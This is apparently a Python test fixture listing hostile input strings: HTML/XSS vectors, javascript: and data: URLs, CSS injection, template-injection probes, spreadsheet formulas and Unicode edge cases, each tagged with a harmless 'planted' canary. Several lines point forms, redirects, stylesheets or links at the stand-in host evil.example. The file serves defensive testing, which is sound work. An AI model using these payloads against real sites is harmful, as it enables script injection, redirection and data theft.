"""Hostile texts, as somebody could write them into a name, a complaint or a remark, or a device could say them.

Each one that could become an element marks it: with the attribute ``planted``, or by calling ``planted()``. What could
become the result of a sum would show RESULT.
"""

RESULT = "84287"  # 7 × 12041, which no page shows otherwise
_SUM = "7*12041"

HTML = (
    "<script planted>planted()</script>",
    "<img planted src=x onerror=planted()>",
    '"><svg planted onload=planted()>',
    "'><b planted>bold</b>",
    "</textarea><b planted>b</b>",
    "</title><b planted>b</b>",
    "</option></select><b planted>b</b>",
    "</style><b planted>b</b>",
    "</script><script planted>planted()</script>",
    "</form><form planted action=//evil.example method=post><input planted>",
    "--><b planted>b</b><!--",
    "]]><b planted>b</b><![CDATA[",
    "<iframe planted src=javascript:planted()></iframe>",
    "<a planted href=javascript:planted()>a</a>",
    "<meta planted http-equiv=refresh content=0;url=//evil.example>",
    "<base planted href=//evil.example/>",
    "<link planted rel=stylesheet href=//evil.example/a.css>",
    "<details planted open ontoggle=planted()>",
    "<input planted autofocus onfocus=planted()>",
    "<div planted hx-get=/audit hx-trigger=load hx-on::load=planted()>",
    "<style planted>*{display:none}</style>",
    "<math planted><mtext></form><form><mglyph><style></math><img planted src onerror=planted()>",
    "<scr<script planted>ipt>planted()</scr</script>ipt>",
    "<noscript><p planted title='</noscript><img planted src=x onerror=planted()>'>",
    '" autofocus onfocus=planted() planted x="',
    "' onmouseover='planted()' planted='",
    "` onmouseover=planted() planted `",
    "&lt;b planted&gt;b&lt;/b&gt;",
    "&#60;b planted&#62;b&#60;/b&#62;",
    "\\u003cb planted\\u003eb",
    "%3Cb%20planted%3Eb",
    "+ADw-b planted+AD4-b",
)
ADDRESSES = ("javascript:planted()", "data:text/html,<script planted>planted()</script>", "//evil.example/planted")
CSS = ("red;background:url(//evil.example/planted)", "x{}*{display:none}", "expression(planted())")
TEMPLATES = (
    "{{" + _SUM + "}}",
    "{%print(" + _SUM + ")%}",
    "${" + _SUM + "}",
    "#{" + _SUM + "}",
    "<%=" + _SUM + "%>",
    "{{cycler.__init__.__globals__}}",
    "%(name)s {0.__class__} {name!r}",
)
FORMULAS = ("=" + _SUM, "+" + _SUM, "-" + _SUM, "@SUM(1,2)", '=HYPERLINK("//evil.example","x")')
WRITING = (
    "\u202eপিছন থেকে\u202c txet sdrawkcab\u2066\u2067",
    "zero\u200bwidth\u2060space\ufeff\u00adhere",
    "control\x07\x1b[31m\x9b31m\x00characters",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\U0001f3fd" * 20,
    "ক্ষ্ম্য" * 150,  # one conjunct after the other, with no place to break
    "ক" + "্ক" * 300,
    "e" + "\u0301" * 400,
)
LONG = ("w" * 10_000, "http://127.0.0.1/" + "a/" * 2_000, "line\n" * 300)

PAYLOADS = (*HTML, *ADDRESSES, *CSS, *TEMPLATES, *FORMULAS, *WRITING, *LONG)
